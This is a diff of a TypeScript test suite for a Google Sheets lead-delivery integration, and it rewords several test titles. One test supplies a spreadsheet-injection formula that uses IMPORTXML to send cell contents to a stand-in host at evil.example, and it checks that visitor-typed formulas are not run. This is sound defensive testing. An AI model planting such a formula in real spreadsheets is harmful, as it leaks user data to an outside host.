@@ -36,7 +36,7 @@ describe('the sheet', () => {
     ]);
   });
 
-  it('may have its columns moved, renamed and more of them: each value stays under its title', async () => {
+  it('may have moved, renamed and additional columns: each value stays under its title', async () => {
     const vendor = await startSheets();
     vendor.grid.push(['Vendedor', 'Telefone', 'Quem é', '', ' Protocolo ', 'Nome'], ['Rui']);
     expect(await deliver(vendor)).toEqual(delivered);
@@ -50,7 +50,7 @@ describe('the sheet', () => {
   it.each([
     ['has no protocols', [['Nome', 'Código'], ['Ana']], 'não tem a coluna Protocolo'],
     ['begins with an untitled column', [['', 'Protocolo', 'Nome']], 'coluna A'],
-  ])('that %s gets nothing until somebody has put it right', async (_, cells, reason) => {
+  ])('that %s gets nothing until somebody fixes it', async (_, cells, reason) => {
     const vendor = await startSheets();
     vendor.grid.push(...cells);
     const outcome = await deliver(vendor);
@@ -61,7 +61,7 @@ describe('the sheet', () => {
     ]);
   });
 
-  it('runs no formula that a visitor has typed', async () => {
+  it('runs no formula typed by a visitor', async () => {
     const vendor = await startSheets();
     const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
     await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
@@ -71,7 +71,7 @@ describe('the sheet', () => {
 });
 
 describe('a repeat', () => {
-  it('adds no row after the answer was lost', async () => {
+  it('adds no row if the answer was lost', async () => {
     const vendor = await startSheets();
     await deliver(vendor);
     vendor.losesAnswer = isOf(':append');
@@ -81,7 +81,7 @@ describe('a repeat', () => {
     expect(vendor.grid).toHaveLength(3);
   });
 
-  it('is found in a column of more than a megabyte', async () => {
+  it('is found in a column larger than a megabyte', async () => {
     const vendor = await startSheets();
     const others = Array.from({ length: 90_000 }, () => ['0000-0000']);
     vendor.grid.push(['Protocolo', 'Nome'], ...others, ['C7F3-A91D', 'Ana']);
@@ -106,7 +106,7 @@ describe('the token', () => {
     expect(vendor.tokens()).toBe(2);
   });
 
-  it('is asked for once more after 401, and then no more for this time', async () => {
+  it('is renewed once after 401, and not again in this attempt', async () => {
     const vendor = await startSheets();
     const send = await setUpChannel('sheets', vendor).open();
     await send(storedLead(), never);
@@ -129,7 +129,7 @@ describe('a spreadsheet that Google does not open', () => {
     [403, off, 'failed', 'HTTP 403 SERVICE_DISABLED'],
     [404, '{}', 'refused', 'HTTP 404'],
     [503, '', 'failed', 'HTTP 503'],
-  ])('with %i %s: %s, and a sentence of the doctor', async (status, body, kind, failure) => {
+  ])('with %i %s: %s, and a line of doctor', async (status, body, kind, failure) => {
     const vendor = await startSheets();
     vendor.interrupt = (response, call) =>
       !isOf('/token')(call) && response.writeHead(status).end(body);
@@ -140,7 +140,7 @@ describe('a spreadsheet that Google does not open', () => {
   });
 });
 
-it('the doctor asks for token and title, writes nothing, and names the key that is wrong', async () => {
+it('doctor reads token and title, writes nothing, and names the wrong key', async () => {
   const vendor = await startSheets();
   expect(await findFaults(vendor)).toEqual([]);
   expect(vendor.grid).toEqual([]);
@@ -153,7 +153,7 @@ it('the doctor asks for token and title, writes nothing, and names the key that 
 describe('erasing a lead', () => {
   const erase = (vendor: Env) => setUpChannel('sheets', vendor).erase();
 
-  it("deletes its rows wherever they stand, and no other lead's", async () => {
+  it('deletes its rows wherever they are, and no other lead’s', async () => {
     const vendor = await startSheets();
     const twin = storedLead({ id: 8, name: 'Bia' });
     for (const lead of [storedLead(), twin, second]) await deliver(vendor, lead);
